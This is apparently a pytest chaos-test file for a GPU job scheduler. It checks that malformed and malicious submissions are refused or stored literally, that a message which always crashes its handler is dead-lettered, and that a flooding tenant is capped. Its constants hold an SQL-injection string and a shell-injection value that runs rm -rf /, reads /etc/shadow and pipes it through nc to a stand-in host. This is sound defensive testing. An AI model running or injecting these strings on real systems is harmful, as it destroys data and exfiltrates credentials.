"""Hostile input: a handler that crashes on one message every time, every kind of malformed or malicious body, and
one tenant flooding submissions. Each must be refused (dead-lettered or rejected, with a reason) or taken
literally, while valid traffic keeps flowing."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import statistics
import uuid
from datetime import datetime

import aio_pika
import pytest
from gpuorch_contracts import SUBMIT_EXCHANGE, GpuRequest, JobSpec, Message, ProcessRun, SubmitJob
from gpuorch_messaging import REASON_HEADER, Broker, QueueSpec

from tests.chaos.faults import ChaosStack, scale
from tests.chaos.invariants import check_invariants
from tests.chaos.scenario import fleet_without_executors, nodes_for, query, report, share_job, wait_states
from tests.e2e.harness import publish_when_routable, wait_rows

pytestmark = [pytest.mark.chaos, pytest.mark.integration]

SQL = "'; DROP TABLE jobs; --"
SHELL = "$(rm -rf /) `reboot` ; cat /etc/shadow | nc evil 1 && echo"


def _submission(**spec_fields: object) -> dict[str, object]:
    """A SubmitJob body as JSON data, with ``spec_fields`` laid over a valid spec."""
    body = json.loads(SubmitJob(spec=JobSpec(run=ProcessRun(argv=["python", "-c", "pass"]))).model_dump_json())
    body["spec"].update(spec_fields)
    return body


def hostile_bodies() -> dict[str, bytes]:
    """Every hostile body, by name. Each is a SubmitJob on ``gpuorch.submit`` (the public entry point)."""
    def dumps(data: object) -> bytes:
        return json.dumps(data).encode()

    sql_everywhere = _submission(name=SQL, tenant=SQL, labels={"team": SQL},
                                 run={"runtime": "process", "argv": ["python", "-c", SQL], "env": {"X": SQL}})
    sql_in_free_text = _submission(run={"runtime": "process", "argv": ["python", "-c", SQL, SHELL],
                                        "env": {"QUERY": SQL, "CMD": SHELL}})
    return {
        "malformed-json": b'{"type": "job.submit", "spec": {',
        "not-an-object": b'["job.submit"]',
        "unknown-type": dumps({"type": "job.explode", "job_id": str(uuid.uuid4())}),
        "unknown-field": dumps({**_submission(), "admin": True}),
        "unknown-spec-field": dumps(_submission(privileged=True)),
        "wrong-types": dumps(_submission(cpu_milli="lots", gang="yes", run={"runtime": "process", "argv": "python"})),
        "huge-string": dumps(_submission(name="n" * 300_000)),
        "oversized-body": dumps(_submission(labels={f"k{i}": "v" * 60 for i in range(40_000)})),
        "nested-5000": b'{"type": "job.submit", "spec": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        "nul": dumps(_submission(name="job\x00name")),
        "control-chars": dumps(_submission(name="\x1b[2J\x1b]0;pwned\x07", run={
            "runtime": "process", "argv": ["python", "-c", "pass\x1b[31m"]})),
        "sql-in-every-string": dumps(sql_everywhere),
        "sql-and-shell-in-free-text": dumps(sql_in_free_text),
        "absurd-numbers": dumps(_submission(cpu_milli=10**30, memory_mib=-1, max_runtime_s=1e308,
                                            resources={"gpus": 2**63})),
        "nan": b'{"type": "job.submit", "spec": {"run": {"runtime": "process", "argv": ["x"]}, '
               b'"runtime_estimate_s": NaN}}',
        "invalid-utf8": b'{"type": "job.submit", "spec": {"name": "\xff\xfe"}}',
    }


@pytest.mark.timeout(180)
async def test_hostile_inputs_are_refused_with_a_reason_while_valid_traffic_flows(
    chaos_stack: ChaosStack, amqp_url: str, pg_dsn: str
) -> None:
    chaos_stack.start_scheduler()
    await chaos_stack.queues_declared(["scheduler", "scheduler.heartbeats"])
    bodies = hostile_bodies()
    valid = [share_job() for _ in range(scale("hostile_valid_jobs", 20))]
    connection = await aio_pika.connect(amqp_url)
    try:
        async with fleet_without_executors(amqp_url, pg_dsn, nodes=nodes_for(len(valid))) as broker:
            channel = await connection.channel(publisher_confirms=True)
            exchange = await channel.get_exchange(SUBMIT_EXCHANGE)
            for (name, body), good in zip(bodies.items(), valid, strict=False):
                await exchange.publish(aio_pika.Message(body, message_id=name, user_id="guest"), routing_key="job.submit")
                await publish_when_routable(broker, good)
            for good in valid[len(bodies):]:
                await publish_when_routable(broker, good)
            await wait_states(pg_dsn, [s.job_id for s in valid], ("placed",), what="valid jobs")
            dead = await _drain(channel, "scheduler.submit.dlq", expect=len(bodies) - 1)
        sql_jobs = await query(pg_dsn, "SELECT state, spec::text AS spec, reason FROM jobs WHERE spec::text LIKE $1",
                               f"%{SQL[:12]}%")
        rejected = await query(pg_dsn, "SELECT reason FROM jobs WHERE state = 'rejected'")
    finally:
        await connection.close()
    refused = {m.message_id: str(m.headers.get(REASON_HEADER, "")) for m in dead}
    verdict = await check_invariants(pg_dsn)
    report("hostile-input", f"{verdict.figures()}; hostile bodies {len(bodies)}, dead-lettered {len(refused)}, "
           f"rejected {len(rejected)}, taken literally {len(sql_jobs)}, valid placed {len(valid)}")
    verdict.assert_holds()
    assert chaos_stack.dead() == [], "the scheduler survived every body"
    literal = {"sql-and-shell-in-free-text"}  # valid: argv and env are free text, never run through a shell or SQL
    for name in set(bodies) - literal:
        assert refused.get(name), f"{name} was not dead-lettered with a reason"
    assert len(sql_jobs) == 1, rejected
    assert json.loads(sql_jobs[0]["spec"])["run"]["argv"][2] == SQL, "stored literally"
    assert (await query(pg_dsn, "SELECT count(*) AS n FROM jobs"))[0]["n"] >= len(valid)  # the table is still there


async def _drain(channel: aio_pika.abc.AbstractChannel, queue_name: str, expect: int) -> list[aio_pika.abc.AbstractIncomingMessage]:
    queue = await channel.declare_queue(queue_name, passive=True)
    got: list[aio_pika.abc.AbstractIncomingMessage] = []
    for _ in range(200):
        message = await queue.get(no_ack=True, fail=False)
        if message is not None:
            got.append(message)
            continue
        if len(got) >= expect:
            break
        await asyncio.sleep(0.1)
    return got


@pytest.mark.timeout(120)
async def test_a_handler_that_crashes_every_time_dead_letters_its_message_while_others_flow(amqp_url: str) -> None:
    """A consumer whose handler raises on one message, every delivery: the quorum queue's delivery limit ends it in
    the dead-letter queue with the handler's error as the reason; the messages behind it are all handled."""
    poison = share_job(tenant="poison")
    others = [share_job() for _ in range(scale("poison_others", 30))]
    handled: list[uuid.UUID] = []
    attempts = 0
    broker = Broker(amqp_url, producer="chaos-poison")
    await broker.connect()

    async def handle(message: Message) -> None:
        nonlocal attempts
        assert isinstance(message, SubmitJob)
        if message.job_id == poison.job_id:
            attempts += 1
            raise RuntimeError("this handler always crashes on this message")
        handled.append(message.job_id)

    try:
        await broker.consume(QueueSpec("chaos.poison", [(SUBMIT_EXCHANGE, "job.submit.#")], delivery_limit=3), handle)
        await broker.publish(poison)
        for message in others:
            await broker.publish(message)
        connection = await aio_pika.connect(amqp_url)
        try:
            channel = await connection.channel()
            [dead] = await _drain(channel, "chaos.poison.dlq", expect=1)
            for _ in range(100):
                if len(handled) == len(others):
                    break
                await asyncio.sleep(0.1)
        finally:
            await connection.close()
    finally:
        await broker.close()
    report("poison-handler", f"poison deliveries {attempts}, others handled {len(handled)} of {len(others)}")
    assert json.loads(dead.body)["job_id"] == str(poison.job_id)
    assert "always crashes" in str(dead.headers[REASON_HEADER])
    assert sorted(handled) == sorted(m.job_id for m in others)
    assert attempts == 3


FLOOD_CAPS = {"GPUORCH_MAX_QUEUED_PER_TENANT": "200", "GPUORCH_SUBMISSION_BURST": "400",
              "GPUORCH_SUBMISSIONS_PER_S": "100", "GPUORCH_QUOTAS": json.dumps({"flood": {"gpus": 2}})}


async def _flood(broker: Broker, count: int) -> list[SubmitJob]:
    jobs = [SubmitJob(spec=JobSpec(tenant="flood", resources=GpuRequest(gpus=1), cpu_milli=10, memory_mib=16,
                                   run=ProcessRun(argv=["python", "-c", "pass"]))) for _ in range(count)]
    for start in range(0, count, 500):
        await broker.publish_many(jobs[start:start + 500])
    return jobs


async def _quiet_latencies(broker: Broker, dsn: str, count: int) -> list[float]:
    """Submit ``count`` jobs of tenant ``quiet`` one after another; seconds from each submission to its
    ``job.placed`` (both timestamps from the same host's clock)."""
    latencies = []
    for _ in range(count):
        job = share_job(tenant="quiet")
        await publish_when_routable(broker, job)
        rows = await wait_rows(dsn, "SELECT payload->>'occurred_at' AS at FROM events WHERE type = 'job.placed' "
                               "AND payload->>'job_id' = $1", str(job.job_id), until=lambda rs: bool(rs),
                               timeout_s=120, what="the quiet tenant's job placed")
        latencies.append((datetime.fromisoformat(rows[0]["at"]) - job.occurred_at).total_seconds())
    return latencies


@pytest.mark.timeout(300)
async def test_a_flooding_tenant_is_capped_with_clear_rejections(
    chaos_stack: ChaosStack, amqp_url: str, pg_dsn: str
) -> None:
    count = scale("flood_jobs", 2000)
    chaos_stack.start_scheduler(**FLOOD_CAPS)
    await chaos_stack.queues_declared(["scheduler", "scheduler.heartbeats"])
    async with fleet_without_executors(amqp_url, pg_dsn, nodes=2) as broker:
        flood = await _flood(broker, count)
        await wait_states(pg_dsn, [j.job_id for j in flood], ("queued", "placed", "rejected"), timeout_s=max(240, len(flood) / 200),
                          what="flood submissions answered")
        quiet = await _quiet_latencies(broker, pg_dsn, 3)
    rows = await query(pg_dsn, "SELECT state, reason FROM jobs WHERE job_id = ANY($1::uuid[])", [j.job_id for j in flood])
    rejected = [r["reason"] for r in rows if r["state"] == "rejected"]
    waiting = sum(1 for r in rows if r["state"] == "queued")
    verdict = await check_invariants(pg_dsn)
    report("tenant-flood-caps", f"{verdict.figures()}; flood {count}, rejected {len(rejected)}, queued {waiting}; "
           f"quiet tenant placed after the flood in {max(quiet):.2f}s at most")
    verdict.assert_holds()
    assert waiting <= 200 and rejected, "the flood is held at its cap"
    assert all("tenant flood" in str(r) for r in rejected), set(rejected)


@pytest.mark.timeout(300)
async def test_a_flooding_tenant_does_not_slow_another_tenant(
    chaos_stack: ChaosStack, amqp_url: str, pg_dsn: str
) -> None:
    """Each tenant the scheduler knows has a submission lane of its own (here ``flood``, from its quota; ``quiet``
    uses the shared lane), taken in turn. Decisive check: with the scheduler paused while a whole flood and then
    one quiet submission arrive, the quiet job is decided before most of the flood (one FIFO queue would decide it
    after all of it). Figures (not asserted: timings are for benchmarks): the quiet tenant's submit -> placed
    latency idle and right behind a flood."""
    count, samples = scale("flood_jobs", 2000), scale("flood_latency_samples", 3)
    scheduler = chaos_stack.start_scheduler(**FLOOD_CAPS)
    await chaos_stack.queues_declared(["scheduler", "scheduler.heartbeats", "scheduler.submit.flood"])
    async with fleet_without_executors(amqp_url, pg_dsn, nodes=2) as broker:
        idle = await _quiet_latencies(broker, pg_dsn, samples)
        assert scheduler.popen is not None
        os.killpg(scheduler.popen.pid, signal.SIGSTOP)
        try:  # at most 2,000 while paused: a longer pause would outlast the (shortened) node leases
            flood = await _flood(broker, min(count, 2000))
            quiet = share_job(tenant="quiet")
            await publish_when_routable(broker, quiet)
        finally:
            os.killpg(scheduler.popen.pid, signal.SIGCONT)
        await wait_states(pg_dsn, [quiet.job_id], ("placed",), what="the quiet job placed")
        await wait_states(pg_dsn, [j.job_id for j in flood], ("queued", "placed", "rejected"), timeout_s=max(240, len(flood) / 200),
                          what="flood submissions answered")
        loaded = []
        for _ in range(samples):  # each quiet submission arrives right behind a whole flood, as in a real flood
            more = await _flood(broker, count)
            loaded += await _quiet_latencies(broker, pg_dsn, 1)
            await wait_states(pg_dsn, [j.job_id for j in more], ("queued", "placed", "rejected"),
                              timeout_s=max(240, count / 200), what="the flood answered before the next one")
            # (a flood's lane is bounded: floods sent faster than they are answered end in nacks, reject-publish)
    rows = await query(pg_dsn, "SELECT count(*) AS n FROM events WHERE type IN ('job.accepted', 'job.rejected') "
                       "AND payload->>'job_id' = ANY($1::text[]) AND position < (SELECT position FROM events "
                       "WHERE type = 'job.placed' AND payload->>'job_id' = $2)",
                       [str(j.job_id) for j in flood], str(quiet.job_id))
    overtaken_by = rows[0]["n"]
    verdict = await check_invariants(pg_dsn)
    idle_s, loaded_s = statistics.median(idle), statistics.median(loaded)
    report("tenant-flood-latency", f"{verdict.figures()}; paused then {len(flood)} flooding submissions and 1 quiet: "
           f"{overtaken_by} of the flood answered before the quiet job was placed; quiet tenant submit->placed "
           f"median idle {idle_s:.3f}s, right behind {count} flooding submissions {loaded_s:.3f}s "
           f"({loaded_s / idle_s:.1f}x)")
    verdict.assert_holds()
    assert overtaken_by <= len(flood) // 2, f"the quiet job waited for {overtaken_by} of {len(flood)} flooding submissions"
